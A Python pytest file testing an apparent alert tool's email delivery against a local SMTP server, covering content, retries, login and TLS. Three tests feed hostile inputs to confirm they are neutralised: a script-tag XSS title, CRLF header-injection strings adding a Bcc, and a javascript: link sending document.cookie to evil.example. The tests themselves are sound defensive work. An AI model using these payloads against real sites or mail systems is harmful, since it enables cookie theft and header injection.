"""Email delivery against a real SMTP server (aiosmtpd) on 127.0.0.1."""

from __future__ import annotations

import asyncio
import shutil
import ssl
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from config.schema import EmailChannel
from monitor.errors import PermanentDeliveryError, TransientDeliveryError
from monitor.notify import deliver
from monitor.notify.email import send_email
from monitor.records import Alert
from tests.support.receivers import SmtpReceiver, closed_port, seed_alert

RECIPIENTS = ["analyst@example.com", "people-team@example.org"]


@pytest.fixture
def smtp() -> Iterator[SmtpReceiver]:
    with SmtpReceiver() as receiver:
        yield receiver


def channel(port: int, **settings: Any) -> EmailChannel:
    """A local relay by default: no TLS, no login."""
    config = {"to": RECIPIENTS, "from": "talentwatch@example.com", "host": "127.0.0.1", "port": port}
    return EmailChannel.model_validate({**config, "starttls": False, **settings})


def send(chan: EmailChannel, alert: Alert | None = None, tls: ssl.SSLContext | None = None) -> None:
    asyncio.run(send_email(chan, alert or seed_alert(), tls_context=tls))


def html_and_text(smtp: SmtpReceiver) -> tuple[str, str]:
    (message,) = smtp.messages
    html, text = message.get_body(("html",)), message.get_body(("plain",))
    assert html is not None and text is not None
    return html.get_content(), text.get_content()


# ── what arrives ─────────────────────────────────────────────────────────────


def test_alert_arrives_with_subject_text_and_html(smtp: SmtpReceiver) -> None:
    send(channel(smtp.port))
    (mail,) = smtp.received.snapshot()
    assert mail.mail_from == "talentwatch@example.com"
    assert mail.rcpt_tos == tuple(RECIPIENTS)
    msg = mail.message
    assert msg["Subject"] == "talentwatch: Yan Zhijie left Alibaba Tongyi Lab for JD.com Explore Academy"
    assert msg["To"] == ", ".join(RECIPIENTS)
    assert msg.get_content_type() == "multipart/alternative"
    html, text = html_and_text(smtp)
    for body in (html, text):
        assert "Example Tech News" in body and "Berita Teknologi" in body
        assert "joined JD.com&#39;s Explore Academy" in body or "joined JD.com's Explore Academy" in body
    assert '<a href="https://berita.example.id/tongyi-lab-ditinggal-peneliti">' in html


def test_message_id_is_the_same_when_an_alert_is_sent_again(smtp: SmtpReceiver) -> None:
    send(channel(smtp.port))
    send(channel(smtp.port))
    send(channel(smtp.port), seed_alert(alert_id="another-alert"))
    first, again, other = (m["Message-ID"] for m in smtp.messages)
    assert first == again
    assert other != first


def test_script_in_a_title_arrives_escaped(smtp: SmtpReceiver) -> None:
    send(channel(smtp.port), seed_alert(title="Talent war <script>alert('pwned')</script>"))
    html, _ = html_and_text(smtp)
    assert "<script>" not in html
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in html


def test_title_with_line_breaks_still_arrives_with_sound_headers(smtp: SmtpReceiver) -> None:
    alert = seed_alert(title="Breaking\r\nBcc: victim@example.net\r\n\r\n<b>body</b>")
    alert = replace(alert, event=replace(alert.event, person="Yan\r\nX-Injected: yes"))
    send(channel(smtp.port), alert)
    (mail,) = smtp.received.snapshot()
    assert mail.rcpt_tos == tuple(RECIPIENTS)
    assert mail.message["Bcc"] is None and mail.message["X-Injected"] is None
    assert mail.message["Subject"].startswith("talentwatch: Yan X-Injected: yes left")
    _, text = html_and_text(smtp)
    assert "Breaking Bcc: victim@example.net <b>body</b>" in text


def test_javascript_source_link_is_not_a_link(smtp: SmtpReceiver) -> None:
    send(channel(smtp.port), seed_alert(url="javascript:fetch('//evil.example/'+document.cookie)"))
    html, _ = html_and_text(smtp)
    assert 'href="javascript' not in html.lower()
    assert "<code>javascript:fetch(" in html


def test_login_with_credentials() -> None:
    with SmtpReceiver(credentials=("talentwatch", "s3cret")) as server:
        send(channel(server.port, username="talentwatch", password="s3cret"))
        assert server.logins.snapshot() == ["talentwatch"]
        assert len(server.messages) == 1


def test_deliver_dispatches_email_channels(smtp: SmtpReceiver) -> None:
    async def go() -> None:
        async with httpx.AsyncClient(trust_env=False) as client:
            await deliver(seed_alert(kind="test"), channel(smtp.port), client=client)

    asyncio.run(go())
    assert smtp.messages[0]["Subject"].startswith("talentwatch test: ")


# ── failures ─────────────────────────────────────────────────────────────────


def test_server_down_is_transient() -> None:
    with pytest.raises(TransientDeliveryError, match="connection refused"):
        send(channel(closed_port()))


def test_server_back_after_a_restart_receives_the_alert(smtp: SmtpReceiver) -> None:
    chan = channel(smtp.port)
    smtp.stop()
    with pytest.raises(TransientDeliveryError):
        send(chan)
    smtp.start()
    send(chan)
    assert len(smtp.messages) == 1


def test_4xx_reply_is_transient(smtp: SmtpReceiver) -> None:
    smtp.refuse("451 4.3.0 Mail server temporarily rejected message")
    with pytest.raises(TransientDeliveryError, match="451"):
        send(channel(smtp.port))
    smtp.refuse(None)
    send(channel(smtp.port))
    assert len(smtp.messages) == 1


def test_5xx_reply_is_permanent(smtp: SmtpReceiver) -> None:
    smtp.refuse("554 5.7.1 Message rejected as spam")
    with pytest.raises(PermanentDeliveryError, match="554"):
        send(channel(smtp.port))


def test_rejected_recipients_are_permanent(smtp: SmtpReceiver) -> None:
    smtp.recipient_replies = dict.fromkeys(RECIPIENTS, "550 5.1.1 No such user")
    with pytest.raises(PermanentDeliveryError, match="550") as caught:
        send(channel(smtp.port))
    assert "analyst@example.com" in str(caught.value)


def test_partly_rejected_recipients_are_reported_and_not_retried(smtp: SmtpReceiver) -> None:
    smtp.recipient_replies = {"people-team@example.org": "450 4.2.1 Mailbox busy"}
    with pytest.raises(PermanentDeliveryError, match="1 of 2") as caught:
        send(channel(smtp.port))
    assert "people-team@example.org" in str(caught.value)
    assert smtp.received.snapshot()[0].rcpt_tos == ("analyst@example.com",)


def test_wrong_password_is_permanent() -> None:
    with SmtpReceiver(credentials=("talentwatch", "s3cret")) as server:
        with pytest.raises(PermanentDeliveryError, match="login refused"):
            send(channel(server.port, username="talentwatch", password="wrong"))
        assert server.messages == []


def test_starttls_asked_of_a_server_without_it_is_permanent(smtp: SmtpReceiver) -> None:
    with pytest.raises(PermanentDeliveryError, match="STARTTLS"):
        send(channel(smtp.port, starttls=True))


# ── TLS ──────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A throwaway self-signed certificate for 127.0.0.1, made with the openssl tool."""
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.skip("the openssl command is needed to make a test certificate")
    folder = tmp_path_factory.mktemp("tls")
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(
        [openssl, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
         "-keyout", str(key), "-out", str(cert), "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        check=True, capture_output=True,
    )  # fmt: skip
    return cert, key


def server_context(certificate: tuple[Path, Path]) -> ssl.SSLContext:
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(*certificate)
    return context


def test_starttls_with_login(certificate: tuple[Path, Path]) -> None:
    trusted = ssl.create_default_context(cafile=str(certificate[0]))
    with SmtpReceiver(tls_context=server_context(certificate), credentials=("tw", "pw")) as server:
        send(channel(server.port, starttls=True, username="tw", password="pw"), tls=trusted)
        assert server.logins.snapshot() == ["tw"]
        assert len(server.messages) == 1


def test_implicit_tls(certificate: tuple[Path, Path]) -> None:
    trusted = ssl.create_default_context(cafile=str(certificate[0]))
    with SmtpReceiver(tls_context=server_context(certificate), implicit_tls=True) as server:
        send(channel(server.port, ssl=True), tls=trusted)
        assert len(server.messages) == 1


def test_untrusted_certificate_is_permanent(certificate: tuple[Path, Path]) -> None:
    with SmtpReceiver(tls_context=server_context(certificate)) as server:
        with pytest.raises(PermanentDeliveryError, match="certificate"):
            send(channel(server.port, starttls=True))  # the system's CAs do not know ours
        assert server.messages == []
